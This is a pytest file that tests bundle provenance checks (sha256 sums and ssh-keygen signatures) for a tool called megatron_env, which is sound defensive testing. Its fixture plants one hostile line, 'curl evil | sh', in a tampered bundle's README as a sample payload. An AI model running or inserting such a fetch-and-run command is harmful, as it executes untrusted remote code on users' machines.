"""Bundle provenance with real ssh-keygen keys made here: a bundle edited with manifest.json
re-hashed to match passes the corruption check (level none, as documented) and is refused by
--expect-sha256 and by --trust; unsigned, badly signed and foreign-signed bundles are refused
under --trust; through the front door nothing is unpacked before the refusal."""

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from megatron_env.bundle import offline, provenance
from tests.conftest import user_error
from tests.test_bundle_unpack import FILES, manifest, write_bundle

ROOT = Path(__file__).resolve().parent.parent
pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="no ssh-keygen")


def keypair(d: Path, name: str) -> Path:
    key = d / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)],
                   check=True)
    return key


@pytest.fixture
def signed(tmp_path, monkeypatch):
    """(good, tampered, allowed): a signed bundle, its re-hashed-manifest edit carrying the
    good signature and sha256 file, and an allowed-signers file naming the maker."""
    monkeypatch.setenv("MEGATRON_ENV_CACHE", str(tmp_path / "cache"))
    key = keypair(tmp_path, "maker")
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"maker@example.org {Path(str(key) + '.pub').read_text()}")
    good = write_bundle(tmp_path / "good.tar", FILES)
    provenance.write_sum(good)
    provenance.sign(good, key)
    edited = {**FILES, "source/README.md": b"import os; os.system('curl evil | sh')\n"}
    tampered = write_bundle(tmp_path / "tampered.tar", edited, manifest(edited))
    shutil.copy(provenance.sig_file(good), provenance.sig_file(tampered))
    return good, tampered, allowed


def test_sha256_file_is_sha256sum_format(signed):
    good, _, _ = signed
    r = subprocess.run(["sha256sum", "-c", provenance.sum_file(good).name], cwd=good.parent,
                       capture_output=True, text=True)
    assert r.returncode == 0 and "good.tar: OK" in r.stdout


def test_rehashed_manifest_passes_the_corruption_check_but_not_sha256_or_signature(signed):
    good, tampered, allowed = signed
    # level none: the manifest matches its (edited) files, as docs/bundle.md says
    assert provenance.check([tampered]).startswith("provenance: none")
    root = offline.unpacked([tampered], lambda *_: None)
    assert b"curl evil" in (root / "source/README.md").read_bytes()
    good_sum = provenance.sum_file(good).read_text().split()[0]
    with user_error("bundle.sha256-mismatch"):
        provenance.check([tampered], expect_sha256=[good_sum])
    with user_error("bundle.bad-signature"):
        provenance.check([tampered], trust=allowed)
    assert provenance.check([good], expect_sha256=[good_sum.upper()]).startswith(
        "provenance: sha256")
    assert provenance.check([good], trust=allowed) == (
        "provenance: signature (signed by maker@example.org)")


def test_unsigned_and_foreign_signed_bundles_are_refused_under_trust(signed, tmp_path):
    good, _, allowed = signed
    unsigned = shutil.copy(good, tmp_path / "unsigned.tar")
    with user_error("bundle.unsigned"):
        provenance.check([Path(unsigned)], trust=allowed)
    other = shutil.copy(good, tmp_path / "other.tar")
    provenance.sign(Path(other), keypair(tmp_path, "stranger"))
    with user_error("bundle.untrusted"):
        provenance.check([Path(other)], trust=allowed)
    with user_error("bundle.trust-file"):
        provenance.check([good], trust=tmp_path / "nowhere")
    with user_error("bundle.provenance-dir"):
        provenance.check([tmp_path], trust=allowed)


def test_front_door_refuses_before_unpacking(signed, tmp_path):
    good, tampered, allowed = signed
    good_sum = provenance.sum_file(good).read_text().split()[0]
    for extra in (["--trust", str(allowed)], ["--expect-sha256", good_sum]):
        r = subprocess.run([sys.executable, "-m", "megatron_env", "setup", "--bundle",
                            str(tampered), "--only", "lock", *extra], cwd=ROOT,
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 2, r.stderr
        assert "nothing was unpacked" in r.stderr and "Traceback" not in r.stderr
        assert not (tmp_path / "cache" / "bundles").exists()


def test_setup_json_refusal_is_one_object_on_stdout(signed, tmp_path):
    import json

    good, tampered, allowed = signed
    good_sum = provenance.sum_file(good).read_text().split()[0]
    for extra, kind in ((["--trust", str(allowed)], "bundle.bad-signature"),
                        (["--expect-sha256", good_sum], "bundle.sha256-mismatch")):
        r = subprocess.run([sys.executable, "-m", "megatron_env", "setup", "--bundle",
                            str(tampered), "--only", "lock", "--json", *extra], cwd=ROOT,
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 2 and r.stderr.count("error: ") == 1, r.stderr
        doc = json.loads(r.stdout)
        assert doc["ok"] is False and doc["error"]["kind"] == kind, doc
        assert doc["command"] == "setup" and doc["error"]["message"] in r.stderr


@settings(max_examples=25, deadline=None)
@given(garbage=st.binary(min_size=0, max_size=512))
def test_a_signing_key_ssh_keygen_cannot_read_is_refused(garbage):
    with tempfile.TemporaryDirectory() as d:
        key = Path(d) / "key"
        key.write_bytes(garbage)
        with user_error("bundle.sign-key") as e:
            provenance.signing_key(key)
        assert str(key) in e.value.message


def test_the_keys_sign_takes_pass_the_early_check(tmp_path):
    """A private key, with a passphrase too (asked for when signing), and the public half
    alone (its private half in ssh-agent): each is one `ssh-keygen -Y sign` can use."""
    plain = keypair(tmp_path, "plain")
    locked = tmp_path / "locked"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "a passphrase", "-f",
                    str(locked)], check=True)
    Path(str(locked) + ".pub").unlink()  # the private file alone still names its public half
    for key in (plain, locked, Path(str(plain) + ".pub")):
        provenance.signing_key(key)
    with user_error("bundle.sign-key"):
        provenance.signing_key(tmp_path / "nowhere")


def test_bundle_refuses_a_bad_signing_key_before_making_anything(tmp_path):
    """Before: `invoke bundle --sign KEY` read the key only after the bundle was made, so a
    wrong file cost the whole download (gigabytes of wheels) first."""
    import json

    key = tmp_path / "key"
    key.write_text("not a key\n")
    env = {**os.environ, "MEGATRON_ENV_CACHE": str(tmp_path / "cache"),
           "MEGATRON_ENV_STATE": str(tmp_path / "state"), "UV_OFFLINE": "1",
           "HTTPS_PROXY": "http://127.0.0.1:9", "HTTP_PROXY": "http://127.0.0.1:9",
           "PIP_NO_INDEX": "1"}
    r = subprocess.run([sys.executable, "-m", "megatron_env", "bundle", "--out",
                        str(tmp_path / "out" / "b.tar"), "--sign", str(key), "--json"],
                       cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300)
    assert r.returncode == 2, r.stderr
    doc = json.loads(r.stdout)
    assert doc["error"]["kind"] == "bundle.sign-key" and str(key) in doc["error"]["message"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["key"], r.stderr  # nothing made
